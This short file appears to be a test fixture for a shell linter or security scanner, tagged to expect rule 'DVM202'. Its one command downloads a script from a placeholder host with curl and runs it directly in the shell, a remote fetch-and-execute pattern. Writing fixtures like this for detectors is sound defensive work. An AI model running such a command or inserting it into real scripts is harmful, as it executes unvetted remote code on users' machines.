# expect: DVM202
${SHELL} -c "$(curl -fsSL https://example.org/i.sh)"
